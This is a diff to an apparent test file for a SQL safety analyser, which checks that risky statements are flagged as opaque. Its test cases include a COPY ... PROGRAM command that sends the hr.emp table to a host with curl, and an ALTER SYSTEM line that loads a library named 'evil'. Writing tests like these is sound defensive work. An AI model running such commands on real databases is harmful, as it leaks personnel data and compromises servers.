@@ -263,7 +263,7 @@ describe('what cannot be analysed is opaque, never safe', () => {
     ['CALL', 'call some_procedure()'],
     ['EXECUTE of a prepared statement', 'execute prepared_grant'],
     ['COPY … PROGRAM', "copy hr.emp to program 'curl -d @- https://example.com'"],
-    ['COPY to a server file', "copy hr.emp to '/tmp/emp.csv'"],
+    ['COPY to a server file', "copy hr.emp to 'emp.csv'"],
     ['ALTER SYSTEM', "alter system set shared_preload_libraries = 'evil'"],
     ['CREATE EXTENSION', 'create extension dblink'],
     ['a trigger', 'create trigger t after insert on hr.emp execute function hr.lookup()'],
